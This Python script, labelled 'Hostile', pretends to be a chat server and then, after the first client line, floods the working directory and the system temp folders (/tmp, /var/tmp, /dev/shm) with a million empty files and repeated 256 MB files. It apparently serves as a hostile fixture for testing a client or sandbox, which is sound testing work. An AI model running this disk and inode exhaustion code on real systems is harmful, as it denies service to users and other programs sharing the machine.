"""Hostile: after the first line, fills disks and tables with big files and with a million empty ones."""
import argparse
import os
import socket


def first_line(port):
    """Behave like a chat server, until the first line comes. Returns the client's connection."""
    listener = socket.create_server(("127.0.0.1", port))
    while True:
        connection, _ = listener.accept()
        print("* client joined", flush=True)
        data = b""
        while b"\n" not in data:
            try:
                piece = connection.recv(4096)
            except OSError:
                break
            if not piece:
                break
            data += piece
        else:
            print(data.split(b"\n")[0].decode("utf-8", "replace"), flush=True)
            return connection
        connection.close()
        print("* client left", flush=True)


def port_from_options():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", default=12345, type=int)
    return parser.parse_known_args()[0].port


def attack():
    places = []
    for place in (".", os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm"):
        folder = os.path.join(place, f"flood-{os.getpid()}")
        try:
            os.mkdir(folder)
            places.append(folder)
        except OSError:
            pass
    for number in range(1_000_000):
        for place in places:
            try:
                os.close(os.open(f"{place}/{number}", os.O_CREAT | os.O_WRONLY, 0o600))
            except OSError:
                pass
        if number % 1000 == 0:
            for place in places:
                big(f"{place}/big-{number}")


def big(path):
    try:
        with open(path, "wb", buffering=0) as file:
            for _ in range(256):
                file.write(b"\xa5" * (1 << 20))
    except OSError:
        pass


if __name__ == "__main__":
    client = first_line(port_from_options())
    attack()
